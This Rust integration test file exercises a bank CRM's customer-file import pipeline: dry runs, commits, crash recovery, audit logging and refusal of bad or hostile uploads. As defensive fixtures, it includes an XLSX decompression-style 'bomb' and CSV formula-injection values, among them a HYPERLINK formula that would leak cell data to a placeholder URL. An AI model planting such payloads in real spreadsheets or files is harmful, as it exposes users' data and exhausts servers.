//! Customer file imports end to end: dry run with every bad row reported, commit, idempotent re-import,
//! GBK and XLSX files, rejected rows as CSV, bad files refused, and a commit that resumes after a crash
//! without applying anything twice.

use std::collections::HashMap;
use std::sync::Arc;

use crate::common::{Session, TestApp, spawn_app_with};
use reqwest::StatusCode;
use reqwest::multipart::{Form, Part};
use siyu_app::import::pipeline::{self, Lookups, Produced};
use siyu_domain::ImportId;
use siyu_store::{ImportStatus, UpsertFields};

pub(crate) async fn upload(app: &TestApp, s: &Session, name: &str, bytes: Vec<u8>, mapping: &str) -> reqwest::Response {
    let form =
        Form::new().part("file", Part::bytes(bytes).file_name(name.to_owned())).text("mapping", mapping.to_owned());
    s.client.post(app.url("/api/v1/imports")).header("x-csrf-token", &s.csrf).multipart(form).send().await.unwrap()
}

/// Uploads and runs the dry run; returns the import as JSON.
pub(crate) async fn dry_run(app: &TestApp, s: &Session, name: &str, bytes: Vec<u8>) -> serde_json::Value {
    let r = upload(app, s, name, bytes, "").await;
    assert_eq!(r.status(), StatusCode::ACCEPTED);
    let v: serde_json::Value = r.json().await.unwrap();
    app.import_after_jobs(s, v["id"].as_str().unwrap(), "validating").await
}

pub(crate) async fn commit(app: &TestApp, s: &Session, id: &str) -> serde_json::Value {
    let r = s
        .client
        .post(app.url(&format!("/api/v1/imports/{id}/commit")))
        .header("x-csrf-token", &s.csrf)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::ACCEPTED, "{}", r.text().await.unwrap());
    app.import_after_jobs(s, id, "committing").await
}

/// An import's problems as the API lists them (first 100).
async fn problems(app: &TestApp, s: &Session, id: &str) -> serde_json::Value {
    let (status, p) = s.get_json(app, &format!("/api/v1/imports/{id}/problems?per_page=100")).await;
    assert_eq!(status, StatusCode::OK, "{p}");
    p
}

/// Each problem as (row, column, code).
fn where_and_why(p: &serde_json::Value) -> Vec<(i64, String, String)> {
    p["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| {
            (
                x["row_no"].as_i64().unwrap(),
                x["column"].as_str().unwrap().to_owned(),
                x["code"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

const GOOD_AND_BAD: &str = "客户号,姓名,手机号,身份证号,网点代码,客户经理,出生日期,风险等级,风评日期,代发日\n\
    N001,王小明,13812345678,11010519491231002X,SH01,cm_sh01_1,1980-01-02,C3,2026-01-05,15\n\
    N002,李四,12345,,SH01,,1980/13/40,,,\n\
    N003,张三,13912345678,,ZZ99,,,,,\n\
    N001,重复,13712345678,,SH01,,,,,\n\
    N004,赵六,13612345678,110105194912310021,SH02,cm_sh01_1,,C7,,32\n\
    N005,钱七,13512345678,,HZ01,,,,,\n";

#[tokio::test]
async fn dry_run_reports_every_bad_row_then_commit_imports_the_good_ones_once() {
    let app = spawn_app_with(5).await;
    let hq = app.login("hq01").await;
    let v = dry_run(&app, &hq, "客户.csv", GOOD_AND_BAD.as_bytes().to_vec()).await;
    assert_eq!(v["status"], "validated");
    assert_eq!(
        (v["total_rows"].as_i64(), v["good_rows"].as_i64(), v["bad_rows"].as_i64()),
        (Some(6), Some(2), Some(4))
    );
    let id = v["id"].as_str().unwrap().to_owned();
    let p = problems(&app, &hq, &id).await;
    let got = where_and_why(&p);
    let want: Vec<(i64, &str, &str)> = vec![
        (3, "手机号", "bad_phone"),
        (3, "出生日期", "bad_date"),
        (4, "网点代码", "unknown_sub_branch"),
        (5, "客户号", "duplicate_in_file"),
        (6, "身份证号", "bad_id_number"),
        (6, "客户经理", "customer_manager_elsewhere"),
        (6, "代发日", "bad_payroll_day"),
        (6, "风险等级", "bad_risk_grade"),
        (6, "风评日期", "missing_risk_date"),
    ];
    let mut got_sorted = got.clone();
    got_sorted.sort();
    let mut want_sorted: Vec<(i64, String, String)> =
        want.iter().map(|(r, c, k)| (*r, c.to_string(), k.to_string())).collect();
    want_sorted.sort();
    assert_eq!(got_sorted, want_sorted);
    assert!(
        p["items"].as_array().unwrap().iter().all(|x| x.get("raw_json").is_none()),
        "rows' personal data stay sealed"
    );
    assert_eq!(
        app.state
            .store
            .list_customers(siyu_domain::scope::DataScope::All, &Default::default(), siyu_store::Page::first(1))
            .await
            .unwrap()
            .total,
        5,
        "a dry run writes nothing"
    );

    // The rejected rows come back as a CSV with reasons, and that export is audited.
    let csv = hq
        .client
        .get(app.url(&format!("/api/v1/imports/{id}/rejected.csv")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 5, "header + 4 rejected rows:\n{csv}");
    assert!(lines[0].starts_with("行号,客户号,姓名"), "in Chinese, the default: {}", lines[0]);
    assert!(lines[1].starts_with("3,N002,李四,12345") && lines[1].contains("不是有效的手机号"), "{}", lines[1]);

    let before = app.state.engine.customers();
    let done = commit(&app, &hq, &id).await;
    assert_eq!(done["status"], "committed");
    assert_eq!(app.state.engine.customers(), before + 2, "committed rows are counted at once");
    assert_eq!(
        (done["inserted"].as_i64(), done["updated"].as_i64(), done["unchanged"].as_i64()),
        (Some(2), Some(0), Some(0))
    );
    let c = app.state.store.customer_by_no(siyu_domain::scope::DataScope::All, "N001").await.unwrap();
    assert_eq!(c.phone_masked.as_deref(), Some("138****5678"));
    assert_eq!(c.id_number_masked.as_deref(), Some("110***********002X"));
    assert_eq!(c.segments.payroll_day, Some(15));
    assert_eq!(c.owner_id, Some(app.staff("cm_sh01_1").await.id));

    // The same file again changes nothing.
    let again = dry_run(&app, &hq, "客户.csv", GOOD_AND_BAD.as_bytes().to_vec()).await;
    let done = commit(&app, &hq, again["id"].as_str().unwrap()).await;
    assert_eq!(
        (done["inserted"].as_i64(), done["updated"].as_i64(), done["unchanged"].as_i64()),
        (Some(0), Some(0), Some(2))
    );
    let after = app.state.store.customer_by_no(siyu_domain::scope::DataScope::All, "N001").await.unwrap();
    assert_eq!(after.updated_at, c.updated_at);
    let audit = app
        .state
        .store
        .search_audit(
            &siyu_store::AuditFilter {
                action: Some(siyu_domain::audit::AuditAction::ImportCommitted),
                ..Default::default()
            },
            siyu_store::Page::first(5),
        )
        .await
        .unwrap();
    assert_eq!(audit.total, 2);
    assert_eq!(audit.items[0].actor, "hq01");
    let exports = app
        .state
        .store
        .search_audit(
            &siyu_store::AuditFilter { action: Some(siyu_domain::audit::AuditAction::Export), ..Default::default() },
            siyu_store::Page::first(5),
        )
        .await
        .unwrap();
    assert_eq!(exports.total, 1);
}

#[tokio::test]
async fn gbk_and_xlsx_files_read_correctly() {
    let app = spawn_app_with(5).await;
    let hq = app.login("hq01").await;
    let (gbk, _, _) = encoding_rs::GBK.encode("客户号,姓名,网点代码\nG001,欧阳修,NJ01\n");
    let v = dry_run(&app, &hq, "gbk.csv", gbk.into_owned()).await;
    assert_eq!(v["good_rows"], 1);
    commit(&app, &hq, v["id"].as_str().unwrap()).await;
    assert_eq!(
        app.state.store.customer_by_no(siyu_domain::scope::DataScope::All, "G001").await.unwrap().name,
        "欧阳修"
    );

    let xlsx = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/data/customers.xlsx")).unwrap();
    let v = dry_run(&app, &hq, "customers.xlsx", xlsx).await;
    assert_eq!((v["good_rows"].as_i64(), v["bad_rows"].as_i64()), (Some(2), Some(1)), "{v}");
    commit(&app, &hq, v["id"].as_str().unwrap()).await;
    let x = app.state.store.customer_by_no(siyu_domain::scope::DataScope::All, "X0001").await.unwrap();
    assert_eq!(x.phone_masked.as_deref(), Some("139****1111"), "a phone Excel stored as a number");
    assert_eq!(x.aum_tier.get(), 3, "820,000 yuan is the platinum tier");
    assert_eq!(x.risk.unwrap().assessed_on.to_string(), "2026-03-01", "an Excel date cell");
}

/// An XLSX naming `XFD1048576`: a few kilobytes that a dense reader turns into 17 billion cells.
fn farthest_cell_xlsx() -> Vec<u8> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "客户号").unwrap();
    ws.write_string(1, 0, "C1").unwrap();
    ws.write_string(1_048_575, 16_383, "x").unwrap();
    wb.save_to_buffer().unwrap()
}

#[tokio::test]
async fn hostile_spreadsheets_are_refused_within_bounds_and_only_after_the_permission() {
    let app = spawn_app_with(5).await;
    let hq = app.login("hq01").await;
    let started = std::time::Instant::now();
    let v = dry_run(&app, &hq, "bomb.xlsx", farthest_cell_xlsx()).await;
    assert_eq!(v["status"], "rejected", "{v}");
    assert!(v["file_error"].as_str().unwrap().contains("512"), "{v}");
    assert!(started.elapsed().as_secs() < 20, "refused at once, not after allocating");
    let xls = dry_run(&app, &hq, "old.xls", vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]).await;
    assert!(xls["file_error"].as_str().unwrap().contains(".xlsx"), "{xls}");

    // A customer manager's upload is refused before it is read: a body past the upload limit gets 403,
    // not 413, on the API, the import page and the tag list page.
    let cm = app.login("cm_sh01_1").await;
    let big = vec![b'a'; 9 << 20];
    assert_eq!(upload(&app, &cm, "x.csv", big.clone(), "").await.status(), StatusCode::FORBIDDEN);
    for path in ["/imports", "/tags/tag_1/list"] {
        let form = Form::new().part("file", Part::bytes(big.clone()).file_name("x.csv"));
        let r = cm.client.post(app.url(path)).header("x-csrf-token", &cm.csrf).multipart(form).send().await;
        let status = r.map(|r| r.status()).unwrap_or(StatusCode::FORBIDDEN);
        assert_eq!(status, StatusCode::FORBIDDEN, "{path}");
    }
    let tiny = Form::new().part("file", Part::bytes(farthest_cell_xlsx()).file_name("x.xlsx"));
    let r = cm.client.post(app.url("/tags/tag_1/list")).header("x-csrf-token", &cm.csrf).multipart(tiny).send().await;
    assert_eq!(r.unwrap().status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_rejected_rows_report_carries_no_formula() {
    let app = spawn_app_with(5).await;
    let hq = app.login("hq01").await;
    let file = "客户号,姓名,手机号,网点代码\n\
        F001,\"=HYPERLINK(\"\"https://x/?\"\"&C2&D2,\"\"fix\"\")\",12345,SH01\n\
        F002,\"\t=1+1\",12345,SH01\n\
        F003,@SUM(A1),12345,SH01\n";
    let v = dry_run(&app, &hq, "f.csv", file.as_bytes().to_vec()).await;
    assert_eq!(v["bad_rows"], 3, "{v}");
    let id = v["id"].as_str().unwrap();
    let csv = hq.client.get(app.url(&format!("/api/v1/imports/{id}/rejected.csv"))).send().await.unwrap();
    let csv = csv.text().await.unwrap();
    let mut r = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = r.records().map(|x| x.unwrap()[2].to_owned()).collect();
    assert_eq!(names, ["'=HYPERLINK(\"https://x/?\"&C2&D2,\"fix\")", "'\t=1+1", "'@SUM(A1)"]);
}

/// A bank's own export: its header names (one with a unit in full-width brackets), sub-branches by
/// name, ID types other than the resident ID card, a payroll flag beside the payday, genders of 未知 and
/// 不详, and dates in the future refused.
#[tokio::test]
async fn a_banks_own_export_is_read_with_its_headers_and_values() {
    let app = spawn_app_with(0).await;
    let hq = app.login("hq01").await;
    let now = siyu_domain::Clock::now(&*app.state.clock);
    // A second 静安支行 (SH03's name) in another city: a name two units share names neither.
    let units = app.state.store.org_units().await.unwrap();
    let nj = units.iter().find(|u| u.code == "NJ").unwrap().id;
    let twin = siyu_store::NewOrgUnit {
        kind: siyu_domain::org::OrgUnitKind::SubBranch,
        parent_id: Some(nj),
        code: "NJ09".into(),
        name: "静安支行".into(),
        location: None,
    };
    app.state.store.create_org_unit(&twin, now).await.unwrap();
    let today = now.bank_date();
    let next_year = today + chrono::Days::new(400);
    let csv = format!(
        "客户号,姓名,证件类型,证件号码,性别,出生日期,开户网点,客户经理编号,AUM等级（资产）,风险等级,风险测评日期,是否代发,代发日\n\
         B001,王芳,护照,E12345678,女,1985-06-01,陆家嘴支行,cm_sh01_1,3,C4,{today},是,15\n\
         B002,李雷,身份证,11010519491231002X,未知,,徐家汇支行,,2,,,否,\n\
         B003,韩梅,居民身份证,,不详,{next_year},SH03,,1,,,,\n\
         B004,赵六,,,男,,陆家嘴支行,,1,C3,{next_year},,\n\
         B005,钱七,,,X,,陆家嘴支行,,1,,,,\n\
         B006,孙八,驾驶证,D1234567,女,,陆家嘴支行,,1,,,,\n\
         B007,周九,,,男,,静安支行,,1,,,,\n\
         B008,吴十,,,男,,陆家嘴支行,,1,,,是,\n\
         B009,郑一,,,男,,陆家嘴支行,,1,,,否,10\n"
    );
    let v = dry_run(&app, &hq, "某银行客户导出.csv", csv.into_bytes()).await;
    assert_eq!(v["status"], "validated", "{v}");
    assert_eq!(
        (v["total_rows"].as_i64(), v["good_rows"].as_i64(), v["bad_rows"].as_i64()),
        (Some(9), Some(2), Some(7)),
        "{v}"
    );
    let id = v["id"].as_str().unwrap().to_owned();
    let p = problems(&app, &hq, &id).await;
    let mut got = where_and_why(&p);
    got.sort();
    let want: Vec<(i64, String, String)> = [
        (4, "出生日期", "future_date"),
        (5, "风险测评日期", "future_date"),
        (6, "性别", "bad_gender"),
        (7, "证件类型", "bad_id_type"),
        (8, "开户网点", "ambiguous_sub_branch"),
        (9, "代发日", "missing_payroll_day"),
        (10, "是否代发", "payroll_flag_conflict"),
    ]
    .iter()
    .map(|(r, c, k)| (*r, c.to_string(), k.to_string()))
    .collect();
    assert_eq!(got, want);
    let message = |code: &str| {
        p["items"].as_array().unwrap().iter().find(|x| x["code"] == code).unwrap()["message"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert!(message("bad_gender").ends_with("：X"), "the gender quoted: {}", message("bad_gender"));
    assert!(message("bad_id_type").contains("驾驶证"), "{}", message("bad_id_type"));

    let done = commit(&app, &hq, &id).await;
    assert_eq!((done["status"].as_str(), done["inserted"].as_i64()), (Some("committed"), Some(2)), "{done}");
    let code_of = |id| units.iter().find(|u| u.id == id).map(|u| u.code.clone());
    let b1 = app.state.store.customer_by_no(siyu_domain::scope::DataScope::All, "B001").await.unwrap();
    assert_eq!(b1.id_type, Some(siyu_domain::customer::IdType::Passport));
    assert!(b1.id_number_masked.is_some(), "a passport number is kept, not checked as a resident ID");
    assert_eq!(b1.gender, siyu_domain::customer::Gender::Female);
    assert_eq!(code_of(b1.sub_branch_id).as_deref(), Some("SH01"), "陆家嘴支行 by name");
    assert_eq!(b1.owner_id, Some(app.staff("cm_sh01_1").await.id), "客户经理编号 is the login");
    assert_eq!(b1.aum_tier.get(), 3);
    assert_eq!(b1.risk.map(|r| (r.grade.get(), r.assessed_on)), Some((4, today)));
    assert_eq!(b1.segments.payroll_day, Some(15));
    let b2 = app.state.store.customer_by_no(siyu_domain::scope::DataScope::All, "B002").await.unwrap();
    assert_eq!(b2.id_type, Some(siyu_domain::customer::IdType::ResidentId));
    assert_eq!(b2.gender, siyu_domain::customer::Gender::Unknown);
    assert_eq!(code_of(b2.sub_branch_id).as_deref(), Some("SH02"));
    assert_eq!((b2.aum_tier.get(), b2.segments.payroll_day), (2, None));
}

#[tokio::test]
async fn bad_files_are_refused_with_a_reason() {
    let app = spawn_app_with(5).await;
    let hq = app.login("hq01").await;
    let v = dry_run(&app, &hq, "x.csv", b"\x81\x20\xFF\xFF\x30,\x31\n".to_vec()).await;
    assert_eq!(v["status"], "rejected");
    assert!(v["file_error"].as_str().unwrap().contains("GBK"));
    let unreadable = dry_run(&app, &hq, "x.xlsx", b"PK\x03\x04 not really a workbook".to_vec()).await;
    assert_eq!(unreadable["status"], "rejected");
    let v = dry_run(&app, &hq, "x.csv", "客户号,姓名,网点代码,备注\nA,B,SH01,x\n".as_bytes().to_vec()).await;
    assert_eq!(v["status"], "needs_mapping");
    assert!(v["file_error"].as_str().unwrap().contains("备注"));
    // Unknown columns can be mapped in the console, and the dry run runs again on the kept file.
    let stuck = v["id"].as_str().unwrap().to_owned();
    let page = hq.client.get(app.url(&format!("/imports/{stuck}"))).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("name=\"col3\"") && page.contains("class=\"unknown\""), "the page offers a mapping for 备注");
    let r = hq
        .client
        .post(app.url(&format!("/imports/{stuck}/remap")))
        .form(&[
            ("csrf", hq.csrf.as_str()),
            ("col0", "customer_no"),
            ("col1", "name"),
            ("col2", "sub_branch_code"),
            ("col3", "ignore"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let v = app.import_after_jobs(&hq, &stuck, "validating").await;
    assert_eq!((v["status"].as_str(), v["good_rows"].as_i64()), (Some("validated"), Some(1)), "{v}");
    // Unknown columns can be mapped away.
    let r = upload(
        &app,
        &hq,
        "x.csv",
        "客户号,姓名,网点代码,备注\nA1,B,SH01,x\n".as_bytes().to_vec(),
        r#"{"备注":"ignore"}"#,
    )
    .await;
    let v: serde_json::Value = r.json().await.unwrap();
    let v = app.import_after_jobs(&hq, v["id"].as_str().unwrap(), "validating").await;
    assert_eq!(v["good_rows"], 1);
    // A rejected import cannot be committed.
    let rejected = app
        .state
        .store
        .list_imports(siyu_store::Page::first(10))
        .await
        .unwrap()
        .items
        .into_iter()
        .find(|i| i.status == ImportStatus::Rejected)
        .unwrap();
    let r = hq
        .client
        .post(app.url(&format!("/api/v1/imports/{}/commit", rejected.id)))
        .header("x-csrf-token", &hq.csrf)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // Malformed mapping, no file, too large.
    let r = upload(&app, &hq, "x.csv", b"a".to_vec(), "{oops").await;
    let v: serde_json::Value = r.json().await.unwrap();
    assert_eq!(v["error"]["code"], "bad_mapping");
    let r = hq
        .client
        .post(app.url("/api/v1/imports"))
        .header("x-csrf-token", &hq.csrf)
        .multipart(Form::new().text("mapping", ""))
        .send()
        .await
        .unwrap();
    let v: serde_json::Value = r.json().await.unwrap();
    assert_eq!(v["error"]["code"], "no_file");
    let r = upload(&app, &hq, "big.csv", vec![b'a'; 9 << 20], "").await;
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    // A customer manager may not import at all.
    let cm = app.login("cm_sh01_1").await;
    assert_eq!(upload(&app, &cm, "x.csv", b"a".to_vec(), "").await.status(), StatusCode::FORBIDDEN);
}

/// A commit that died after its first batch resumes from the checkpoint: every good row ends up
/// written once, and the batch already applied is not applied again.
#[tokio::test]
async fn a_crashed_commit_resumes_without_applying_a_batch_twice() {
    let app = spawn_app_with(0).await;
    let rows = pipeline::BATCH_ROWS * 2 + 123;
    let mut csv = String::from("customer_no,name,sub_branch_code,phone\n");
    for i in 0..rows {
        csv.push_str(&format!("R{i:06},客户{i},SH0{},139{:08}\n", 1 + i % 3, i));
    }
    let caller = crate::common::system_importer("test");
    let state = &app.state;
    let id: ImportId =
        siyu_app::services::imports::store_upload(state, &caller, "big.csv", csv.clone().into_bytes(), "")
            .await
            .unwrap();
    siyu_app::services::imports::validate_now(state, &caller, id, &|_| {}).await.unwrap();
    state.store.start_commit(id, siyu_domain::Clock::now(&*state.clock)).await.unwrap();

    // The "crashed" worker: commits the first batch, then dies.
    let lookups = Arc::new(Lookups::load(&*state.store).await.unwrap());
    let rec = state.store.import(id).await.unwrap();
    let today = siyu_app::import::judged_on(&rec);
    let mut rx =
        pipeline::spawn_producer(Arc::new(csv.into_bytes()), HashMap::new(), lookups, state.vault.clone(), today, 0);
    let Some(Produced::Fields(fields)) = rx.recv().await else { panic!("fields first") };
    let Some(Produced::Batch(first)) = rx.recv().await else { panic!("a batch") };
    drop(rx);
    state.store.commit_import_batch(id, 0, &first, &fields, siyu_domain::Clock::now(&*state.clock)).await.unwrap();
    // A late duplicate of that batch from the dead worker is refused.
    assert!(
        state
            .store
            .commit_import_batch(id, 0, &first, &UpsertFields::all(), siyu_domain::Clock::now(&*state.clock))
            .await
            .is_err()
    );

    // The retry picks up where it stopped.
    let counts = siyu_app::services::imports::commit_now(state, &caller, id, &|_, _| {}).await.unwrap();
    assert_eq!(counts.inserted, rows as i64, "{counts:?}");
    let rec = state.store.import(id).await.unwrap();
    assert_eq!((rec.status, rec.rows_committed), (ImportStatus::Committed, rows as i64));
    let total = state
        .store
        .list_customers(siyu_domain::scope::DataScope::All, &Default::default(), siyu_store::Page::first(1))
        .await
        .unwrap()
        .total;
    assert_eq!(total, rows as i64);
    // The audience engine counts every committed row, the crashed worker's batch included.
    let bound = |text: &str| {
        let expr = siyu_app::engine::compile(state, text).unwrap();
        async move { siyu_app::engine::bind_to_org(state, &expr).await.unwrap() }
    };
    let everyone = bound("aum_tier >= 1").await;
    assert_eq!(state.engine.select(&everyone, None).unwrap().len(), rows as u64);
    let sh02 = bound("sub_branch = \"SH02\"").await;
    assert_eq!(state.engine.select(&sh02, None).unwrap().len(), (0..rows).filter(|i| i % 3 == 1).count() as u64);
    // And running it once more is a no-op.
    let again = siyu_app::services::imports::commit_now(state, &caller, id, &|_, _| {}).await.unwrap();
    assert_eq!(again, counts);
}

/// The committed mark and the import's audit entry are written together: a commit whose audit entry
/// cannot be written is not marked committed, and its re-run writes both once and removes the upload —
/// as does a re-run after the mark that finds the upload still there.
#[tokio::test]
async fn an_import_is_never_committed_without_its_audit_entry() {
    let app = spawn_app_with(0).await;
    let caller = crate::common::system_importer("test");
    let state = &app.state;
    let csv = "customer_no,name,sub_branch_code\nA1,张三,SH01\nA2,李四,SH02\n";
    let id =
        siyu_app::services::imports::store_upload(state, &caller, "a.csv", csv.as_bytes().to_vec(), "").await.unwrap();
    siyu_app::services::imports::validate_now(state, &caller, id, &|_| {}).await.unwrap();
    state.store.start_commit(id, siyu_domain::Clock::now(&*state.clock)).await.unwrap();
    let upload = std::path::PathBuf::from(state.store.import(id).await.unwrap().stored_path);

    // The audit log cannot be written (a full disk, say) when the commit comes to its end.
    let db =
        sqlx::SqlitePool::connect(&format!("sqlite://{}", app.dir.path().join("siyu.db").display())).await.unwrap();
    sqlx::raw_sql("CREATE TRIGGER audit_fails BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'disk full'); END")
        .execute(&db)
        .await
        .unwrap();
    assert!(siyu_app::services::imports::commit_now(state, &caller, id, &|_, _| {}).await.is_err());
    assert_eq!(state.store.import(id).await.unwrap().status, ImportStatus::Committing, "not committed unaudited");
    assert!(upload.exists(), "kept for the re-run");

    sqlx::raw_sql("DROP TRIGGER audit_fails").execute(&db).await.unwrap();
    let counts = siyu_app::services::imports::commit_now(state, &caller, id, &|_, _| {}).await.unwrap();
    assert_eq!(counts.inserted, 2);
    let audited = || async {
        let f = siyu_store::AuditFilter {
            action: Some(siyu_domain::audit::AuditAction::ImportCommitted),
            ..Default::default()
        };
        state.store.search_audit(&f, siyu_store::Page::first(10)).await.unwrap().total
    };
    assert_eq!(audited().await, 1);
    assert!(!upload.exists(), "the upload goes once the import is committed");

    // A worker that died after the mark and before the cleanup: the re-run removes what it left.
    std::fs::write(&upload, b"sealed upload").unwrap();
    assert_eq!(siyu_app::services::imports::commit_now(state, &caller, id, &|_, _| {}).await.unwrap(), counts);
    assert!(!upload.exists());
    assert_eq!(audited().await, 1, "no second entry");
}
